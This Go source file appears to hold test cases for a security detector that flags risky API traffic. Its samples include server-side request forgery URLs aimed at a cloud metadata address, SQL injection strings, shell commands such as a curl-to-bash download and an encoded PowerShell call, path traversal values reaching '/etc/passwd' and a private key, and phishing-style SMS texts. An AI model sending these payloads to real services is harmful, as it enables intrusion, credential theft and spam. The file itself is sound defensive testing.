package main

import (
	_ "embed"
	"strings"

	"github.com/lapwing-sec/lapwing/actors/detect/risk"
)

// statements are what an API for statements is sent, one a line.
//
//go:embed testdata/risks/statements.txt
var statements string

func rk03() riskSet {
	s := riskSet{id: 3}
	for _, f := range []fields{
		{"url", "http://203.0.113.9/x"}, {"imageUrl", "https://img.example.net/a.png"}, {"target", "http://169.254.169.254/latest/meta-data/"},
		{"src", "http://10.0.0.5:8080/"}, {"feed", "https://example.net/rss.xml"}, {"fileUrl", "ftp://example.net/a.csv"}, {"webhook", "https://example.net/hook"},
		{"uri", "http://localhost:9200/_cat"}, {"link", "gopher://127.0.0.1:6379/_x"},
	} {
		for _, p := range []string{"/api/fetch", "/api/import", "/api/proxy", "/preview", "/api/webhook/test"} {
			s.shows(get(p, bearer, f, ok(`{"ok":true}`)))
			s.shows(asked("POST", p, bearer, f, ok(`{"ok":true}`))[:3]...)
			s.not(get(p, bearer, f, status(400, `{"error":"address not allowed"}`)))
		}
	}
	for _, f := range []fields{
		{"redirect_uri", "https://app.example.com/cb"}, {"returnUrl", "https://shop.example.com/cart"}, {"avatarUrl", "https://img.example.net/a.png"},
		{"website", "https://amy.example.net"}, {"text", "see https://example.net for more"}, {"homepage", "https://amy.example.net"}, {"referer", "https://example.net/"},
		{"callbackUrl", "https://app.example.com/cb"}, {"content", "https://example.net"}, {"comment", "http://example.net/a"}, {"next", "https://shop.example.com/"},
		{"successUrl", "https://shop.example.com/paid"}, {"url", "not an address"}, {"pageUrl", "https://shop.example.com/a"}, {"logoUrl", "https://img.example.net/l.png"},
	} {
		for _, p := range []string{"/api/profile", "/oauth/authorize", "/api/comments", "/api/collect"} {
			s.not(get(p, bearer, f, ok(`{"ok":true}`)))
			s.not(asked("POST", p, bearer, f, ok(`{"ok":true}`))[:3]...)
		}
	}
	return s
}

func rk30() riskSet {
	s := riskSet{id: 30}
	for q := range strings.Lines(statements) {
		q = strings.TrimSpace(q)
		for _, k := range []string{"sql", "query", "statement", "querySql", "sqlText"} {
			s.shows(asked("POST", "/api/report/run", bearer, fields{"db", "shop", k, q}, ok(`{"rows":[]}`))[:3]...)
			s.shows(get("/api/query", bearer, fields{k, q}, ok(`{"rows":[]}`)))
			s.not(get("/api/query", bearer, fields{k, q}, status(403, `{"error":"not allowed"}`)))
		}
	}
	for _, f := range []fields{
		{"q", "select a gift from us"}, {"query", "red scarf"}, {"id", "1 UNION SELECT name FROM users"}, {"name", "x' OR '1'='1"}, {"text", "please update the set"},
		{"query", "{ viewer { name } }"}, {"comment", "How do I write SELECT * FROM t in SQL?"}, {"q", "drop shipping"}, {"sql", "yes"}, {"query", "insert coin"},
		{"title", "Delete from memory"}, {"query", "with love"},
	} {
		s.not(asked("POST", "/api/search", bearer, f, ok(`{"rows":[]}`))[:3]...)
		s.not(get("/api/search", bearer, f, ok(`{"rows":[]}`)))
	}
	return s
}

func rk31() riskSet {
	s := riskSet{id: 31}
	for _, c := range []string{"ls -la /var/log", "cat /etc/hosts", "whoami", "ping -c 1 203.0.113.9", "curl http://example.net/a.sh | bash", "docker ps", "/bin/sh -c id",
		"ifconfig", "powershell -enc SQBFAFgA", "systemctl restart nginx"} {
		for _, k := range []string{"cmd", "command", "exec", "shell", "commandLine"} {
			s.shows(asked("POST", "/api/ops/run", bearer, fields{"host", "web-1", k, c}, ok(`{"out":""}`))[:3]...)
			s.shows(get("/api/exec", bearer, fields{k, c}, ok(`{"out":""}`)))
			s.not(get("/api/exec", bearer, fields{k, c}, status(403, `{"error":"no"}`)))
		}
	}
	for _, f := range []fields{
		{"cmd", "forward"}, {"command", "turn left"}, {"cmd", "start"}, {"action", "ls"}, {"name", "cat"}, {"cmd", "getUserInfo"}, {"command", "subscribe"}, {"cmd", "heartbeat"},
		{"text", "cat /etc/hosts shows the file"}, {"command", "play music"}, {"cmd", "1001"}, {"script", "a scene in a play"},
	} {
		s.not(asked("POST", "/api/robot", bearer, f, ok(`{"ok":true}`))[:3]...)
		s.not(get("/api/robot", bearer, f, ok(`{"ok":true}`)))
	}
	return s
}

func rk32() riskSet {
	s := riskSet{id: 32}
	for _, p := range []string{"/api/sms/send", "/sendSms", "/api/v1/message/sms", "/duanxin/fasong"} {
		for _, f := range []fields{
			{"mobile", "13812345678", "content", "恭喜您中奖，请点击链接领取"}, {"phone", "13812345678", "message", "Your parcel is waiting, pay here"},
			{"to", "+14155550132", "text", "Hello there from us"}, {"phoneNumber", "13812345678", "smsContent", "【商城】您的订单已发货"},
		} {
			s.shows(asked("POST", p, bearer, f, ok(`{"code":0}`))[:3]...)
			s.not(asked("POST", p, bearer, f, status(400, `{"error":"no"}`))[:2]...)
			s.not(asked("POST", "/api/feedback", bearer, f, ok(`{"code":0}`))[:2]...)
		}
		for _, f := range []fields{
			{"mobile", "13812345678"}, {"mobile", "13812345678", "templateCode", "SMS_154950909"}, {"phone", "13812345678", "type", "login"},
			{"phone", "13812345678", "content", `{"code":"1234"}`}, {"mobile", "13812345678", "captcha", "x7k2"}, {"content", "no receiver here at all"},
		} {
			s.not(asked("POST", p, "", f, ok(`{"code":0}`))[:3]...)
		}
	}
	s.not(asked("POST", "/api/orders", bearer, fields{"phone", "13812345678", "message", "please ring the bell"}, ok(`{"code":0}`))...)
	return s
}

func rk33() riskSet {
	s := riskSet{id: 33}
	for _, p := range []string{"/api/mail/send", "/sendEmail", "/api/v1/email/messages/send", "/youjian/fasong"} {
		for _, f := range []fields{
			{"to", "amy@example.com", "subject", "Hello there", "content", "Click here to win"}, {"email", "amy@example.com", "body", "Dear customer, hello"},
			{"recipient", "amy@example.com", "html", "<p>Dear customer</p>"}, {"toEmail", "li@example.com", "title", "通知", "content", "您好，请查收"},
		} {
			s.shows(asked("POST", p, bearer, f, ok(`{"code":0}`))[:3]...)
			s.not(asked("POST", p, bearer, f, status(403, `{"error":"no"}`))[:2]...)
			s.not(asked("POST", "/api/contact", bearer, f, ok(`{"code":0}`))[:2]...)
		}
		for _, f := range []fields{
			{"email", "amy@example.com"}, {"to", "amy@example.com", "template", "welcome"}, {"email", "amy@example.com", "type", "reset"}, {"content", "no receiver here at all"},
			{"to", "amy@example.com", "templateId", "17", "params", `{"name":"Amy"}`},
		} {
			s.not(asked("POST", p, "", f, ok(`{"code":0}`))[:3]...)
		}
	}
	return s
}

// codeCases are the same for phones and mailboxes: who is asked for a code, and the answer.
func codeCases(s *riskSet, paths []string, to fields) {
	for _, p := range paths {
		for _, a := range []string{
			`{"ok":true,"smsCode":"482913"}`, `{"data":{"verifyCode":4829}}`, `{"code":0,"data":"482913"}`, `{"code":200,"msg":"ok","data":{"code":"482913"}}`,
			`{"code":200,"message":"验证码为482913，5分钟内有效"}`, `{"message":"Your code is 482913"}`, `{"captcha":"7731"}`, `{"result":{"otp":"553107"}}`,
		} {
			s.shows(asked("POST", p, "", to, ok(a))[:3]...)
			s.shows(get(p, "", to, ok(a)))
			s.not(asked("POST", p, "", to, status(400, a))[:1]...)
			s.not(asked("POST", "/api/coupons", bearer, to, ok(a))[:1]...)
		}
		for _, a := range []string{
			`{"code":200,"message":"sent"}`, `{"code":"200000","msg":"ok"}`, `{"expire":300,"ok":true}`, `{"message":"code valid for 3600 seconds"}`,
			`{"data":{"bizId":"134523004588725312"}}`, `{"requestId":"482913","ok":true}`, `{"code":0,"data":null}`, `{"countdown":60}`, `{"code":10000}`,
			`{"verifyCode":"******"}`, `{"code":0,"msg":"验证码已发送，请在300秒内输入"}`,
		} {
			s.not(asked("POST", p, "", to, ok(a))[:3]...)
		}
		s.not(asked("POST", p, "", append(fields{"smsCode", "482913"}, to...), ok(`{"smsCode":"482913","ok":true}`))[:2]...)
	}
}

func rk34() riskSet {
	s := riskSet{id: 34}
	codeCases(&s, []string{"/api/sms/send", "/api/v1/sms/code", "/sendVerifyCode", "/yanzhengma/fasong"}, fields{"mobile", "13812345678"})
	return s
}

func rk35() riskSet {
	s := riskSet{id: 35}
	codeCases(&s, []string{"/api/email/send", "/api/v1/email/code", "/sendEmailCode", "/mail/captcha"}, fields{"email", "amy@example.com"})
	return s
}

func rk36() riskSet {
	s := riskSet{id: 36}
	file := func(p string, f fields) risk.Example {
		return risk.Example("GET " + host + p + "?" + f.form() + "\n" + bearer + "\n-- 200\nContent-Type: application/octet-stream\n\nPK")
	}
	for _, p := range []string{"/api/file/download", "/download", "/api/v1/attachments/get", "/export/download"} {
		for _, f := range []fields{
			{"path", "/data/reports/2026/q3.xlsx"}, {"file", "../../etc/passwd"}, {"filePath", "upload/2026/11/a.pdf"}, {"filename", "report.pdf"},
			{"fileName", "订单.xlsx"}, {"path", `C:\data\a.docx`}, {"url", "/var/log/app.log"}, {"file", "backup.zip"},
		} {
			s.shows(file(p, f))
			s.not(risk.Example("GET " + host + p + "?" + f.form() + "\n" + bearer + "\n" + status(404, `{"error":"none"}`)))
		}
		for _, f := range []fields{
			{"id", "81f2"}, {"fileId", "1042"}, {"id", "81f2", "filename", "q3.xlsx"}, {"token", "q7Xk2vPz9LmT4wRs8NcJ"}, {"type", "pdf"}, {"format", "xlsx"}, {"page", "2"},
			{"name", "report"}, {"uuid", "7c9e6679-7425-40de-944b-e07fc1f90ae7"},
		} {
			s.not(file(p, f))
		}
	}
	picture := func(p string, f fields, kind string) risk.Example {
		return risk.Example("GET " + host + p + "?" + f.form() + "\n\n-- 200\nContent-Type: " + kind + "\n\nx")
	}
	for _, p := range []string{"/_next/image", "/img/resize", "/api/v1/images/thumb", "/media/view", "/static/picture"} {
		for _, f := range []fields{
			{"url", "/static/hero.jpg", "w", "640", "q", "75"}, {"src", "uploads/2026/11/a.PNG", "width", "300"}, {"file", "avatars/7.webp", "size", "64x64"},
			{"path", "/products/blue-shoe.jpeg"}, {"name", "logo.png", "h", "80"}, {"image", "photos/a b.gif"},
		} {
			s.not(picture(p, f, "image/webp"), picture(p, f, "image/jpeg"))
		}
		for _, f := range []fields{
			{"src", "../../etc/passwd", "w", "640"}, {"file", "/etc/ssl/private.key", "w", "10"}, {"path", "/home/amy/scan.png"}, {"src", "a/../../b.png", "w", "1"},
		} {
			s.shows(picture(p, f, "image/png"))
		}
	}
	s.not(get("/api/users", bearer, fields{"path", "a/b.c"}, ok(`{"n":1}`)), get("/api/menu", bearer, fields{"path", "/system/user"}, ok(`{"n":1}`)))
	return s
}
